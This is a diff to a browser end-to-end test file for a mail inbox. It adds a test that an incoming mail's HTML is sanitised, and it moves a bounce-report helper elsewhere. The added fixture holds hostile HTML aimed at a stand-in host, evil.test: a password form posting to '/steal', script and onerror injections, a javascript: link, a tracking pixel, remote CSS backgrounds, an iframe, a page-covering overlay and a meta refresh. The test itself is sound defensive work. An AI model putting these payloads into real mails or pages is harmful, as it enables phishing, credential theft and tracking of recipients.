@@ -3,7 +3,7 @@ import { history, row } from '../inbox/locators.js'
 import { mailedLink, mailsTo } from '../mail.js'
 import { call, registerCompany } from '../people.js'
 import { expect, expectAccessible, expectToFit, test } from '../story.js'
-import { html, plain, takesMail, TAKES_MAIL } from './mails.js'
+import { bounce, html, plain, takesMail, TAKES_MAIL } from './mails.js'
 
 const DOT = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='
 
@@ -59,6 +59,41 @@ test('a mail is shown as a mail, with its pictures, and remote ones only on requ
   await expect(ada.getByRole('dialog').getByText('It answers no email that we know')).toBeVisible()
 })
 
+const HOSTILE = `<p>Please sign in.</p>
+<script>top.document.title = 'taken'</script><img src="x" onerror="top.document.title = 'taken'">
+<form action="https://evil.test/steal"><input name="password"><button>Sign in</button></form>
+<style>body { position: fixed; inset: 0; background: url(https://evil.test/style) }</style>
+<div style="position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 9999">Cover</div>
+<p style="background: url(https://evil.test/inline)">Seen</p><iframe src="https://evil.test/frame"></iframe>
+<a href="javascript:top.document.title='taken'">Click me</a><img src="https://evil.test/pixel.gif" width="1" height="1">
+<meta http-equiv="refresh" content="0;url=https://evil.test/refresh"><b>End</b>`
+
+test('the HTML of a mail cannot run, ask for input, call out or leave its frame', async ({ install }) => {
+  const { somebody } = await install(TAKES_MAIL)
+  const ada = await somebody()
+  await registerCompany(ada)
+  const send = await takesMail(ada)
+  const called: string[] = []
+  await ada.route('https://evil.test/**', (route) => (called.push(route.request().url()), route.abort()))
+  await send({ content: html(HOSTILE) })
+  await row(ada, 'Please sign in.').getByRole('link').click()
+  const frame = history(ada).locator('iframe[title="Order 7"]')
+  const mail = frame.contentFrame()
+  await expect(mail.getByText('End')).toBeVisible()
+  await expect(
+    mail.locator('script, form, input, button, style ~ style, iframe, meta[http-equiv=refresh]'),
+  ).toHaveCount(0)
+  await expect(mail.locator('[href^="javascript"], [onerror]')).toHaveCount(0)
+  const box = await frame.boundingBox()
+  expect(box?.width).toBeLessThan(1_280)
+  expect(box?.height).toBeLessThan(400)
+  await expectToFit(ada)
+  // The cover does not lie over the page.
+  await ada.getByRole('textbox', { name: 'Reply' }).click()
+  await expect(ada).not.toHaveTitle('taken')
+  expect(called).toEqual([])
+})
+
 test('an agent replies to all, with a signature, and sees that the mail was sent', async ({ install }) => {
   const { papercups, somebody } = await install(TAKES_MAIL)
   const ada = await somebody()
@@ -111,27 +146,6 @@ test('an agent replies to all, with a signature, and sees that the mail was sent
   await expectToFit(ada)
 })
 
-/** As the mail server of the recipient reports that it refused a mail of ours. */
-const bounce = (message_id: string) => `Content-Type: multipart/report; report-type=delivery-status; boundary=r1
-
---r1
-${plain('Your mail could not be delivered.')}
---r1
-Content-Type: message/delivery-status
-
-Reporting-MTA: dns; mx.shop.test
-
-Final-Recipient: rfc822; billing@shop.test
-Action: failed
-Status: 5.1.1
-Diagnostic-Code: smtp; 550 5.1.1 User unknown
---r1
-Content-Type: message/rfc822
-
-Message-ID: ${message_id}
---r1--
-`
-
 test('the thread marks a doubtful sender and a mail that came back, and an admin allows mail again', async ({
   install,
 }) => {
@@ -150,11 +164,13 @@ test('the thread marks a doubtful sender and a mail that came back, and an admin
 
   await send({ from: 'billing@shop.test', subject: 'Order 8', content: plain('Where is order 8?') })
   await row(ada, 'Where is order 8?').getByRole('link').click()
+  // Until then the composer is the one of the conversation before.
+  await expect(ada.getByRole('group', { name: 'Recipients' })).toContainText('To billing@shop.test')
   await ada.getByRole('textbox', { name: 'Reply' }).fill('On its way.')
   await ada.getByRole('button', { name: 'Send', exact: true }).click()
   await expect(history(ada).getByText('Emailed to billing@shop.test')).toBeVisible()
   const [sent] = await runSql(papercups, 'select rfc_message_id from outgoing_mails')
-  await send({ from: 'MAILER-DAEMON@shop.test', content: bounce(String(sent?.rfc_message_id)) })
+  await send({ from: 'MAILER-DAEMON@shop.test', content: bounce('billing@shop.test', String(sent?.rfc_message_id)) })
   await expect(history(ada).getByText('The email came back from billing@shop.test: 550 5.1.1')).toBeVisible()
   await expect(history(ada).getByText('billing@shop.test gets no automatic emails')).toBeVisible()
   await expectAccessible(ada)
